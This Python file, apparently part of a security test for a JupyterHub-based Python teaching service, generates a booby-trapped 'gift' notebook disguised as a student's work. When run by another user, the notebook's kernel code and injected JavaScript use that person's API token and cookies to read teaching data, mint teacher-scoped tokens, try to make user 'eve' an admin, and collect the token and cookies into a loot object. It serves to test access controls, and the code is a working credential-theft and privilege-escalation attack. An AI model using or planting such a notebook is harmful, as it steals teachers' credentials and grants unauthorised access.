"""A notebook of a student's that takes what it can from whoever runs it."""

import json
from pathlib import Path

KERNEL = """
import json, os, urllib.error, urllib.request
from IPython.display import Javascript, display

class Stay(urllib.request.HTTPRedirectHandler):
    # A way to the sign-in is no way in.

    def redirect_request(self, *args):
        return None

browser = urllib.request.build_opener(Stay)

def call(method, url, body=None):
    request = urllib.request.Request(
        url,
        method=method,
        data=None if body is None else json.dumps(body).encode(),
        headers={"Authorization": "token " + os.environ["JUPYTERHUB_API_TOKEN"]},
    )
    try:
        with browser.open(request, timeout=20) as answer:
            return f"{answer.status} {answer.read(9999).decode()}"
    except urllib.error.HTTPError as error:
        return f"refused: {error.code}"

api = os.environ["PYTHONMASTERY_AUTHORITY_URL"] + "/pythonmastery/api/v1/"
hub = os.environ["JUPYTERHUB_API_URL"]
user = os.environ["JUPYTERHUB_USER"]
teach = {"scopes": ["custom:pythonmastery:teach"]}
kernel = {
    "kernel: teach": call("GET", api + "teach/conversations"),
    "kernel: pages": call("GET", os.environ["PYTHONMASTERY_AUTHORITY_URL"] + "/teach"),
    "kernel: mint at the hub": call("POST", f"{hub}/users/{user}/tokens", teach),
    "kernel: mint at the service": call(
        "POST", api + "me/sessions", {"label": "mine", "scopes": ["teach"]}
    ),
}
"""

PAGE = """
(async () => {
  const tried = %(kernel)s;
  const config = JSON.parse(document.getElementById('jupyter-config-data').textContent);
  const later = ms => new Promise(resolve => setTimeout(resolve, ms));
  const attempt = async (name, act) => {
    try {
      tried['page: ' + name] = String(await act());
    } catch (error) {
      tried['page: ' + name] = 'refused: ' + error;
    }
  };
  const ask = async (url, init = {}) => {
    const answer = await fetch(url, { credentials: 'include', ...init });
    return (answer.ok ? '' : 'refused: ') + answer.status + ' ' + (await answer.text());
  };
  const withToken = { headers: { Authorization: 'token ' + config.token } };
  const mint = {
    method: 'POST',
    body: JSON.stringify({ scopes: ['custom:pythonmastery:teach'] })
  };
  const form = { method: 'POST', mode: 'no-cors', body: new URLSearchParams({ role: 'admin' }) };
  const pages = '%(pages)s';
  const tokens = '%(hub)s/hub/api/users/' + config.hubUser + '/tokens';
  await attempt('read', () => ask(pages));
  await attempt('read teaching', () => ask(pages + 'teach'));
  await attempt('write', () => ask(pages + 'admin/people/eve/role', form));
  await attempt('api by cookie', () => ask(pages + 'pythonmastery/api/v1/teach/conversations'));
  await attempt('api by token', () =>
    ask(pages + 'pythonmastery/api/v1/teach/conversations', withToken)
  );
  await attempt('mint by cookie', () => ask(tokens, mint));
  await attempt('mint by token', () => ask(tokens, { ...mint, ...withToken }));
  await attempt('frame', async () => {
    const frame = document.createElement('iframe');
    frame.src = pages;
    document.body.append(frame);
    await later(1500);
    return frame.contentDocument.body.innerText || 'refused: empty';
  });
  await attempt('window', async () => {
    const other = window.open(pages);
    await later(1500);
    const text = other.document.body.innerText;
    other.close();
    return text;
  });
  window.loot = { tried, token: config.token, cookies: document.cookie };
})();
"""


def wrap(folder: Path, pages: str, hub: str) -> None:
    script = PAGE.replace("%(pages)s", pages).replace("%(hub)s", hub)
    show = f"display(Javascript({script!r}.replace('%(kernel)s', json.dumps(kernel))))"
    cell = {
        "id": "gift",
        "cell_type": "code",
        "metadata": {},
        "source": f"{KERNEL}\n{show}\n",
        "outputs": [],
        "execution_count": None,
    }
    kernel = {"kernelspec": {"name": "python3", "display_name": "Python 3"}}
    notebook = {"nbformat": 4, "nbformat_minor": 5, "metadata": kernel, "cells": [cell]}
    (folder / "gift.ipynb").write_text(json.dumps(notebook))
